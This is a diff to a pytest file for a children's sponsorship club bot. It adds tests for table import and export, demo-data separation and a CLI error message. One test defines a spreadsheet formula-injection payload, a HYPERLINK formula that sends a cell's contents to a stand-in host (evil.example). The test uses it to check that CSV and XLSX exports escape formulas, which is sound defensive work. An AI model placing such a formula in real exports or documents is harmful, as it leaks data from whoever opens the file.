@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -10,9 +11,9 @@ import pytest
 from sqlalchemy import func, select
 
 from bot.club.database import session_scope
-from bot.club.importer import export_table, import_table
+from bot.club.importer import DemoDataError, export_table, import_table
 from bot.club.models import Campaign, Child, Donation, Sponsor, Sponsorship
-from bot.club.seed import SEED_DIR, seed_if_empty
+from bot.club.seed import SEED_DIR, remove_demo, seed_if_empty
 from bot.club.staff import StaffError, create_staff, verify_staff
 from bot.club.tables import LOAD_ORDER, CellError
 
@@ -109,7 +110,7 @@ NE0101,0987654321,160000,2026-11-01,
 NE0107,0912345678,-5,2026-11-01,
 """,
     )
-    result = import_table(db_url, "sponsorships", csv)
+    result = import_table(db_url, "sponsorships", csv, allow_demo=True)
     assert (
         result.errors[0]
         == "line 3: column child_code: no children row with code 'NE9999'"
@@ -200,3 +201,83 @@ def test_staff_accounts(db_url, tmp_path):
     )
     assert result.returncode == 0, result.stderr
     assert verify_staff(db_url, "an.nguyen", "mot-mat-khau-dai")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem sao kê")'
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_exports_never_carry_a_live_formula(db_url, tmp_path, suffix):
+    seed_if_empty(db_url)
+    header = "date,amount,fund_code,sponsor_phone,child_code,donor_name,memo,source,"
+    header += "reference"
+    quoted = FORMULA.replace('"', '""')
+    line = f'2026-11-02,100000,XAYTRUONG,,,"@SUM(1+1)","{quoted}",bank,FT-X1'
+    source = write(tmp_path / "in.csv", f"{header}\n{line}")
+    imported = import_table(db_url, "donations", source, allow_demo=True)
+    assert imported.ok, imported.errors
+    path = tmp_path / f"donations{suffix}"
+    export_table(db_url, "donations", path)
+    if suffix == ".xlsx":
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(path).worksheets[0]  # formulas as written
+        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+        assert cells and all(c.data_type == "s" for c in cells)
+        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    else:
+        text = path.read_text("utf-8")
+        assert "'=HYPERLINK" in text and "'@SUM" in text
+        assert ",=" not in text and ",@" not in text
+    again = f"sqlite:///{tmp_path / 'again.db'}"
+    from bot.ops.schema import migrate
+
+    migrate(again)
+    for table in LOAD_ORDER:
+        table_path = tmp_path / f"{table}{suffix}"
+        if table != "donations":
+            export_table(db_url, table, table_path)
+        assert import_table(again, table, table_path).ok
+    with session_scope(again) as session:
+        memos = set(session.scalars(select(Donation.memo)))
+    assert FORMULA in memos  # the text itself comes back unchanged
+
+
+def test_demo_data_is_marked_and_real_data_does_not_mix_with_it(db_url, tmp_path):
+    seed_if_empty(db_url)
+    children = write(
+        tmp_path / "children.csv",
+        "code,given_name,birth_year,school,grade,district,needs,public_note,"
+        "private_note,photo_path,status\n"
+        "NE0101,Lan,2015,Trường thật,Lớp 5,Quan Sơn,,,,,waiting",
+    )
+    with pytest.raises(DemoDataError, match="--remove-demo"):
+        import_table(db_url, "children", children)
+    assert count(db_url, Sponsorship) > 0
+    assert remove_demo(db_url) > 30
+    for model in (Child, Sponsor, Sponsorship, Donation):
+        assert count(db_url, model) == 0
+    result = import_table(db_url, "children", children)
+    assert result.ok and result.created == 1  # a new child, no inherited sponsor
+    assert count(db_url, Sponsorship) == 0
+
+
+def test_cli_import_into_demo_data_is_a_clear_error(tmp_path):
+    url = f"sqlite:///{tmp_path / 'club.db'}"
+    env = {**os.environ, "DATABASE_URL": url, "VAR_DIR": str(tmp_path)}
+    subprocess.run(
+        [sys.executable, "-m", "bot", "seed-demo"],
+        env=env,
+        check=True,
+        capture_output=True,
+    )
+    funds = write(tmp_path / "funds.csv", "code,name,description\nMOI,Quỹ mới,")
+    command = [sys.executable, "-m", "bot", "import", "funds", str(funds)]
+    refused = subprocess.run(command, env=env, capture_output=True, text=True)
+    assert refused.returncode == 1
+    assert "demo club" in refused.stderr and "Traceback" not in refused.stderr
+    done = subprocess.run(
+        [*command, "--remove-demo"], env=env, capture_output=True, text=True
+    )
+    assert done.returncode == 0, done.stderr
+    assert "demo rows removed" in done.stdout
